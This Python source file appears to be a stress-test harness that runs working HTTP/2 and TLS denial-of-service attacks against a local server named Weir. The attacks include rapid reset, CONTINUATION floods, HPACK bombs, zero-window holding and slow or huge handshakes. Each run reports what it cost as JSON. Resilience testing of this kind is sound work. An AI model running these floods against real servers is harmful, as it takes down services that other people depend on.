"""Clients that attack: `attacks.py NAME PORT SECONDS` does so, and prints what it has done and what it cost as JSON.

Floods send as fast as Weir reads, on one connection after another, each until Weir ends it. The others keep many
connections where they do harm, and replace those that Weir closes.
"""

import json
import resource
import select
import socket
import ssl
import struct
import sys
import time
from dataclasses import dataclass
from typing import Callable

import http2
from edge import context
from http2 import CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, frame, literal, settings

TIMEOUT_SECONDS = 2
REPEAT = 100
# More than Weir makes at a time.
SLOW_HELLOS = 1500
HELD_CONNECTIONS = 20
HELD_STREAMS = 100
SILENT_CONNECTIONS = 200
RECORD = 16 * 1024
# Of a reset on close.
ABORT = struct.pack("ii", 1, 0)


class Attacker:
    """Where the attack goes, until when, and what it has done."""

    def __init__(self, port, seconds):
        self.port = port
        self.deadline = time.monotonic() + seconds
        self.connections = self.sent = self.ended = 0

    def goes_on(self):
        return time.monotonic() < self.deadline

    def open(self):
        """A connection, or None if there is none to be had now."""
        try:
            one = socket.create_connection(("127.0.0.1", self.port), timeout=TIMEOUT_SECONDS)
        except OSError:
            time.sleep(0.01)
            return None
        self.connections += 1
        return one

    def send(self, one, data):
        """Whether Weir still took it."""
        try:
            one.sendall(data)
            self.sent += len(data)
            # What Weir has sent is of no interest, but it may have closed.
            while is_readable(one):
                if not one.recv(http2.BUFFER):
                    return False
        except OSError:
            return False
        return True

    def flood(self, beginning, batch):
        """Sends `beginning`, and then `batch(round)` again and again, on one connection after another."""
        while self.goes_on():
            if one := self.open():
                with one:
                    self.flood_one(one, beginning, batch)

    def flood_one(self, one, beginning, batch):
        number, is_open = 0, self.send(one, beginning)
        while is_open and self.goes_on():
            is_open = self.send(one, batch(number))
            number += 1
        self.ended += not is_open

    def hold(self, count, beginning, more=b""):
        """Keeps so many connections; each has sent `beginning`, and then sends a byte of `more` each second."""
        held = {}
        while self.goes_on():
            began = time.monotonic()
            while len(held) < count and self.goes_on() and (one := self.open()):
                if self.send(one, beginning):
                    held[one] = 0
            for one, place in list(held.items()):
                if self.send(one, more[place : place + 1]):
                    held[one] = min(place + 1, max(len(more) - 1, 0))
                else:
                    self.ended += 1
                    del held[one]
                    one.close()
            time.sleep(max(0, min(1, began + 1 - time.monotonic())))
        for one in held:
            one.close()

    def report(self):
        usage = resource.getrusage(resource.RUSAGE_SELF)
        return {
            "connections": self.connections,
            "ended_by_weir": self.ended,
            "sent_mib": self.sent / 2**20,
            "cpu_s": usage.ru_utime + usage.ru_stime,
        }


def is_readable(one, seconds=0):
    """Whether there are bytes or the end within so long."""
    poll = select.poll()
    poll.register(one, select.POLLIN)
    return bool(poll.poll(1000 * seconds))


def block(method="GET", path="/", extra=b""):
    """The fields of a request, none of which enters the dynamic table."""
    pairs = http2.request_fields(method, path, "localhost")
    return b"".join(literal(*pair) for pair in pairs) + extra


def rapid_reset(attacker):
    """CVE-2023-44487: requests that are taken back as soon as they are made."""
    fields = block()

    def batch(number):
        streams = (2 * (REPEAT * number + one) + 1 for one in range(REPEAT))
        return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, one, fields) + http2.reset(one) for one in streams)

    attacker.flood(PREFACE + settings(), batch)


def continuations(attacker):
    """CVE-2024-27316: a head without end."""
    more = frame(CONTINUATION, 0, 1, literal("x-a", "1")) * REPEAT
    attacker.flood(PREFACE + settings() + frame(HEADERS, END_STREAM, 1, block()), lambda _: more)


def many_settings(attacker):
    more = settings([(http2.INITIAL_WINDOW, 100)]) * REPEAT
    attacker.flood(PREFACE + settings(), lambda _: more)


def pings(attacker):
    more = frame(PING, 0, 0, bytes(8)) * REPEAT
    attacker.flood(PREFACE + settings(), lambda _: more)


def hpack_bombs(attacker):
    """A few bytes that stand for 47 MB of fields: 12 000 references to one of 3900 bytes."""
    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, block(extra=literal("x", "y" * 3900, indexed=True)))
    bomb = block(extra=b"\xbe" * 12_000)
    attacker.flood(
        PREFACE + settings() + first, lambda number: frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 3, bomb)
    )


def zero_windows(attacker):
    """Clients that ask for 100 MiB each, and take nothing."""
    fields = block(path="/files/1m")
    requests = (frame(HEADERS, END_HEADERS | END_STREAM, 2 * one + 1, fields) for one in range(HELD_STREAMS))
    attacker.hold(HELD_CONNECTIONS, PREFACE + settings([(http2.INITIAL_WINDOW, 0)]) + b"".join(requests))


def half_open(attacker):
    """Requests whose bodies never come."""
    fields = block("POST", extra=literal("content-length", "10"))
    requests = (frame(HEADERS, END_HEADERS, 2 * one + 1, fields) for one in range(HELD_STREAMS))
    attacker.hold(HELD_CONNECTIONS, PREFACE + settings() + b"".join(requests))


def slow_prefaces(attacker):
    """Connections that have sent a part of the preface, and go on with a byte a second."""
    attacker.hold(SILENT_CONNECTIONS, PREFACE[:3], PREFACE[3:])


def hello():
    """The first bytes of a client of TLS."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = context().wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()


def slow_hellos(attacker):
    """Handshakes that take a second for each byte of their first message."""
    first = hello()
    attacker.hold(SLOW_HELLOS, first[:5], first[5:])


def huge_hellos(attacker):
    """A first message that announces 16 MiB, and brings them."""
    record = struct.pack(">BHH", 22, 0x0301, RECORD)
    start = record + b"\x01\xff\xff\xff\x03\x03" + bytes(RECORD - 6)
    attacker.flood(start, lambda _: record + bytes(RECORD))


def aborted(attacker):
    """Handshakes that are given up when the server has signed its part."""
    first = hello()
    while attacker.goes_on():
        if one := attacker.open():
            with one:
                one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, ABORT)
                if attacker.send(one, first):
                    is_readable(one, TIMEOUT_SECONDS)


@dataclass(frozen=True)
class Attack:
    """An attack, and whether it is on the listener of TLS."""

    name: str
    title: str
    run: Callable
    tls: bool = False


ATTACKS = {
    one.name: one
    for one in (
        Attack("rapid_reset", "rapid reset", rapid_reset),
        Attack("continuation", "CONTINUATION flood", continuations),
        Attack("settings", "SETTINGS flood", many_settings),
        Attack("ping", "PING flood", pings),
        Attack("hpack", "HPACK bombs", hpack_bombs),
        Attack("zero_window", "zero windows", zero_windows),
        Attack("half_open", "half-open streams", half_open),
        Attack("slow_preface", "slow prefaces", slow_prefaces),
        Attack("slow_hello", "slow hellos", slow_hellos, tls=True),
        Attack("huge_hello", "huge hellos", huge_hellos, tls=True),
        Attack("aborted", "aborted handshakes", aborted, tls=True),
    )
}


def main():
    name, port, seconds = sys.argv[1:]
    attacker = Attacker(int(port), float(seconds))
    ATTACKS[name].run(attacker)
    print(json.dumps(attacker.report()))


if __name__ == "__main__":
    main()
